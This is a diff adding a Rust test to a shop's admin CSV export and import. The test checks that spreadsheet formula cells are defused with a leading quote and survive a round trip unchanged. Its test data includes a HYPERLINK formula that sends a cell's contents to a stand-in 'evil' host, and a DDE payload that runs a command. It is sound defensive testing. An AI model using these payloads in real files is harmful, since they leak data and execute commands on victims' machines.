@@ -1059,6 +1059,67 @@ fn products_go_out_as_csv_and_come_back_in() {
 }
 
 #[test]
+fn formula_cells_are_defused_on_export_and_round_trip_unchanged() {
+    let app = TestApp::spawn();
+    let category = app.category("lamps", "Lamps");
+    let texts = [
+        (
+            "=HYPERLINK(\"http://evil/?\"&A1,\"click\")",
+            "=cmd|' /C calc'!A0",
+        ),
+        ("+1 Mug", "-5% off, today"),
+        ("@SUM(A1:A9)", "-\tdash, then a tab"),
+        ("'=looks quoted", "'Tis the season"),
+        ("Plain Lamp", "Nothing to see."),
+    ];
+    for (name, description) in texts {
+        app.product(ProductSpec {
+            category_id: category,
+            name,
+            description,
+            ..Default::default()
+        });
+    }
+    let admin = app.admin("boss@example.com");
+    let export = admin.get("/admin/products.csv");
+    let rows = csv_rows(&export.body);
+    let cells: Vec<(String, String)> = rows.iter().map(|r| (r[1].clone(), r[6].clone())).collect();
+    for (name, description) in &cells[..3] {
+        assert!(name.starts_with('\'') && !name.starts_with("''"), "{name}");
+        assert!(description.starts_with('\''), "{description}");
+    }
+    assert_eq!(
+        cells[3],
+        ("''=looks quoted".into(), "'Tis the season".into())
+    );
+    assert_eq!(cells[4], ("Plain Lamp".into(), "Nothing to see.".into()));
+
+    // The exported file, imported as it is, changes no name or description.
+    let page = admin.get("/admin/products");
+    let imported = admin.submit_multipart_on(
+        &page,
+        "/admin/products/import",
+        &[],
+        &[("file", "products.csv", "text/csv", export.body.as_bytes())],
+    );
+    assert_eq!(imported.status, 303, "{}", imported.body);
+    let stored: Vec<(String, String)> = app
+        .db(|conn| {
+            products::table
+                .order(products::id.asc())
+                .select((products::name, products::description))
+                .load(conn)
+        })
+        .unwrap();
+    let expected: Vec<(String, String)> = texts
+        .iter()
+        .map(|(n, d)| (n.to_string(), d.to_string()))
+        .collect();
+    assert_eq!(stored, expected);
+    assert_eq!(admin.get("/admin/products.csv").body, export.body);
+}
+
+#[test]
 fn an_import_with_one_bad_row_applies_nothing() {
     let app = TestApp::spawn();
     let category = app.category("lamps", "Lamps");
